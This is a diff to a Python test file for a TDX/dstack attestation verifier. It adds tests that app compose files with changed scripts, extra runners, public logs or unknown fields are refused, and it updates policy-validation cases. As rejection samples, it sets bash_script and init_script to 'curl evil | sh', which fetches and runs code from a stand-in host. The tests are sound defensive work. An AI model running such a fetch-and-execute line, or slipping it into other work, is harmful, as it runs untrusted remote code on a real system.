@@ -18,6 +18,7 @@ from metaflow_stack.confidential.attest import (
     DSTACK_EVENT_TYPE,
     AttestationRefused,
     app_events,
+    app_parts,
     binding,
     cache_name,
     collateral_for,
@@ -214,6 +215,58 @@ def test_a_dstack_apps_compose_hash_is_read_from_an_event_log_that_replays_to_rt
         verify(quote, collateral, pinned, _report_data(quote), now=PINNED, event_log=empty)
 
 
+def _app_compose(**fields: object) -> tuple[str, str, str]:
+    """An app compose as Phala builds it around a step's docker compose (``fields`` replace or add), its
+    bytes as the guest agent gives them; and the docker compose's and the script's SHA-256."""
+    compose = json.dumps({"services": {"task": {"image": "stack/confidential@sha256:" + "ab" * 32}}})
+    script = "#!/bin/bash\necho pre-launch\n"
+    app = {"manifest_version": 2, "name": "mf-flow-score", "runner": "docker-compose", "docker_compose_file": compose,
+           "allowed_envs": ["METAFLOW_STACK_CONFIDENTIAL_ORDER"], "public_logs": False, "public_sysinfo": False,
+           "kms_enabled": True, "pre_launch_script": script} | fields  # fmt: skip
+    raw = json.dumps({k: v for k, v in app.items() if v is not None}, indent=4)
+    return raw, hashlib.sha256(compose.encode()).hexdigest(), hashlib.sha256(script.encode()).hexdigest()
+
+
+def test_a_steps_app_is_pinned_by_its_docker_compose_read_from_the_app_compose_the_event_log_measures(
+    samples: Path,
+) -> None:
+    raw, compose, script = _app_compose()
+    measured = hashlib.sha256(raw.encode()).hexdigest()
+    assert app_parts(raw, measured) == {"docker_compose": compose, "pre_launch_script": script}
+    bare, _, _ = _app_compose(pre_launch_script=None)  # no script: the empty text's digest
+    no_script = app_parts(bare, hashlib.sha256(bare.encode()).hexdigest())["pre_launch_script"]
+    assert no_script == hashlib.sha256().hexdigest()
+    with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is not the one the event log measures"):
+        app_parts(raw.replace("pre-launch", "exfiltrate"), measured)  # the script changed, the hash not
+    refused = {
+        "tdx.app_compose.runner: is 'bash', not 'docker-compose'": _app_compose(runner="bash"),
+        "tdx.app_compose.bash_script: runs code besides": _app_compose(bash_script="curl evil | sh"),
+        "tdx.app_compose.init_script: runs code besides": _app_compose(init_script=["curl evil | sh"]),
+        "tdx.app_compose.public_logs: is not false": _app_compose(public_logs=True),
+        "tdx.app_compose.public_sysinfo: is not false": _app_compose(public_sysinfo=1),
+        "tdx.app_compose.verity_volumes: is not a field known to run nothing": _app_compose(verity_volumes=[{}]),
+        "tdx.app_compose: names no docker compose file": _app_compose(docker_compose_file=None),
+    }
+    for says, (text, _, _) in refused.items():
+        with pytest.raises(AttestationRefused) as caught:
+            app_parts(text, hashlib.sha256(text.encode()).hexdigest())
+        assert str(caught.value).startswith(says), str(caught.value)
+    for text, says in (("[1]", "is not a JSON object"), ("{", "is not JSON"), (" " * 300_000, "is larger than")):
+        with pytest.raises(AttestationRefused, match=rf"^tdx\.app_compose: {says}"):
+            app_parts(text, hashlib.sha256(text.encode()).hexdigest())
+    # A genuine TDX quote held to a docker compose: the app compose must come with a log naming its hash.
+    quote, collateral = _evidence(samples, "tdx_quote")
+    pinned = parse_policy(
+        f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr1 = ['{TDX_RT_MR1}']\nrt_mr2 = ['{TDX_RT_MR2}']\n"
+        f"docker_compose = ['{compose}']\npre_launch_script = ['{script}']"
+    )
+    with pytest.raises(AttestationRefused, match=r"^tdx\.event_log: is needed to know the app \(the policy pins"):
+        verify(quote, collateral, pinned, _report_data(quote), now=PINNED, app_compose=raw)
+    empty, _ = _dstack_log()  # (the sample's RTMR3 is all zeros: a log of no runtime events replays to it)
+    with pytest.raises(AttestationRefused, match=r"^tdx\.compose_hash: the event log names none"):
+        verify(quote, collateral, pinned, _report_data(quote), now=PINNED, event_log=empty, app_compose=raw)
+
+
 @pytest.mark.parametrize(
     ("attack", "field", "says"),
     [
@@ -341,8 +394,17 @@ def test_an_enclave_takes_only_the_key_of_its_measured_mode_and_policy(monkeypat
         ),
         (f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\nsurprise = 1", "policy.sgx.surprise: Extra inputs"),
         ("[tdx]\nrt_mr0 = []", "policy.tdx.mr_td: Field required"),
-        (f"[tdx]\nmr_td = ['{TDX_MR_TD}']", "policy.tdx.compose_hash: is needed (or rt_mr3): else any app"),
+        (f"[tdx]\nmr_td = ['{TDX_MR_TD}']", "policy.tdx.docker_compose: is needed (or compose_hash, or rt_mr3)"),
         (f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ncompose_hash = ['{'9a' * 32}']", "policy.tdx.rt_mr1: and rt_mr2 are needed"),
+        (
+            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['{'5f' * 32}']",
+            "policy.tdx.pre_launch_script: is needed with docker_compose",
+        ),
+        (
+            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['{'5f' * 32}']\npre_launch_script = ['{'e3' * 32}']",
+            "policy.tdx.rt_mr1: and rt_mr2 are needed",
+        ),
+        (f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['5f']", "policy.tdx.docker_compose[0]: String should"),
         ("[tcb]\nallow_debug = false", "policy: allows no enclave"),
         ("[sgx", "policy: is not TOML"),
         (f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\nmin_isv_svn = -1", "policy.sgx.min_isv_svn"),
